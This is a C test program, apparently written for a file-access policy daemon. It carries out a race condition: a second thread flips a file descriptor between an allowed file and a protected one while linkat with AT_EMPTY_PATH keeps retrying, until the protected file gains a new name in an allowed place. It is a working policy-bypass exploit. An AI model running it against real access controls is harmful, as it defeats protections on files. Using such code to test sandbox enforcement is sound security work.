/* Attack: give a protected file a second name in an allowed place, then
 * write it through that name. linkat(FD, "", AT_FDCWD, NEW, AT_EMPTY_PATH)
 * links whatever FD is open on; a second thread points FD (dup2) at
 * ALLOWED and PROTECTED in turn, both opened read-only, so the descriptor
 * policyd decides on may not be the one the kernel links. Usage:
 *   static_flink_race ALLOWED PROTECTED NEW N
 * tries up to N times and says "linked the protected file" once NEW is
 * PROTECTED (same inode); NEW is left in place then.
 *   static_flink_race pipe PROTECTED NEW N
 * the same with a pipe instead of ALLOWED.
 *   static_flink_race tmpfile DIR NEW
 * the honest use, single-threaded: an O_TMPFILE in DIR, written, then
 * linked as NEW; says "tmpfile linked" or "tmpfile: errno=N".
 *   static_flink_race own FILE NEW
 * single-threaded: FILE opened read-only (by this process itself, not
 * by policyd as a write-open is), linked as NEW; "own linked" or
 * "own: errno=N".
 * Static: only the kernel backstop sees it. */
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "flip.h"

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "own")) {
		int f = open(argv[2], O_RDONLY);
		if (f < 0 || syscall(SYS_linkat, f, "", AT_FDCWD, argv[3],
				     AT_EMPTY_PATH) < 0) {
			printf("own: errno=%d\n", errno);
			return 1;
		}
		printf("own linked\n");
		return 0;
	}
	if (argc == 4 && !strcmp(argv[1], "tmpfile")) {
		int t = open(argv[2], O_TMPFILE | O_WRONLY, 0600);
		if (t < 0 || write(t, "single\n", 7) != 7 ||
		    syscall(SYS_linkat, t, "", AT_FDCWD, argv[3],
			    AT_EMPTY_PATH) < 0) {
			printf("tmpfile: errno=%d\n", errno);
			return 1;
		}
		printf("tmpfile linked\n");
		return 0;
	}
	if (argc < 5)
		return 2;
	if (!strcmp(argv[1], "pipe")) {
		/* the number flips between a pipe and PROTECTED */
		int pp[2];
		if (pipe(pp) < 0)
			return 2;
		fds[1] = pp[0];
	} else {
		fds[1] = open(argv[1], O_RDONLY);
	}
	fds[2] = open(argv[2], O_RDONLY);
	fds[0] = dup(fds[1]);
	struct stat ps;
	if (fds[1] < 0 || fds[2] < 0 || fds[0] < 0 || stat(argv[2], &ps) < 0)
		return 2;
	pthread_t t;
	pthread_create(&t, NULL, flip_fd, NULL);
	wait_flipping();
	int n = atoi(argv[4]), failed = 0;
	for (int i = 0; i < n; i++) {
		unlink(argv[3]);
		wait_flip_since(flips);
		if (syscall(SYS_linkat, fds[0], "", AT_FDCWD, argv[3],
			    AT_EMPTY_PATH) < 0) {
			failed++;
			continue;
		}
		struct stat ns;
		if (stat(argv[3], &ns) == 0 && ns.st_dev == ps.st_dev &&
		    ns.st_ino == ps.st_ino) {
			printf("linked the protected file (try %d)\n", i + 1);
			return 0;
		}
	}
	unlink(argv[3]);
	printf("never linked the protected file in %d tries (%d refused)\n", n,
	       failed);
	return 1;
}
